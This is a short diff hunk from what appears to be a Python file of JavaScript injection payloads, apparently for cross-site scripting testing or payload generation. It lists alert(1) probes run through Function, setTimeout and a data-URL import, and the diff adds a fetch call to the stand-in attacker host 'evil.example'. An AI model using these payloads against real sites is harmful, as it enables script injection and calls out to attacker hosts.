@@ -13,6 +13,7 @@ CALLS = (
     "Function('alert(1)')()",
     "setTimeout('alert(1)')",
     "import('data:text/javascript,alert(1)')",
+    "fetch('//evil.example')",
 )
 # %s is what is to be called.
 MARKUP = (
